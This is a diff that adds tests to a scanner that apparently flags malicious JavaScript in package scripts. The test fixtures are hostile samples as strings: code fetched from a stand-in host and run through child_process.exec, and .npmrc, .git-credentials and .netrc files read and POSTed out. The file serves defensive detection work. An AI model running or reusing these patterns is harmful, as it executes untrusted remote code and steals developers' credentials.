@@ -162,6 +162,31 @@ def test_aws_credentials_posted_with_axios():
     assert _scan(script) == [("EX-02", "critical", 6)]
 
 
+def test_inline_requires_and_a_promisified_exec_are_followed():
+    script = ("require('https').get('https://x.example.net/c', (res) => {\n"
+              "  let s = '';\n"
+              "  res.on('data', (c) => { s += c; });\n"
+              "  res.on('end', () => require('child_process').exec(s));\n"
+              "});\n")
+    assert _scan(script) == [("DX-04", "high", 4)]
+    script = ("import { exec } from 'node:child_process';\n"
+              "import { promisify } from 'node:util';\n"
+              "const sh = promisify(exec);\n"
+              "const { stdout } = await sh('curl -s https://x.example.net/next');\n"
+              "await sh(stdout.trim());\n")
+    assert _scan(script, "scripts/next.mjs") == [("DX-04", "high", 5)]
+
+
+def test_credential_files_mapped_to_their_contents_and_posted():
+    script = ("const os = require('os');\n"
+              "const fs = require('fs');\n"
+              "const path = require('path');\n"
+              "const files = ['.npmrc', '.git-credentials', '.netrc'].map((f) => path.join(os.homedir(), f));\n"
+              "const loot = files.filter(fs.existsSync).map((f) => fs.readFileSync(f, 'utf8')).join('\\n');\n"
+              "fetch('https://x.example.net/l', { method: 'POST', body: loot });\n")
+    assert _scan(script) == [("EX-02", "critical", 6)]
+
+
 @pytest.mark.parametrize("script", [
     # a JSON download parsed and printed; eval of a constant
     "const res = await fetch('https://api.example.com/items');\nconst items = JSON.parse(await res.text());\n"
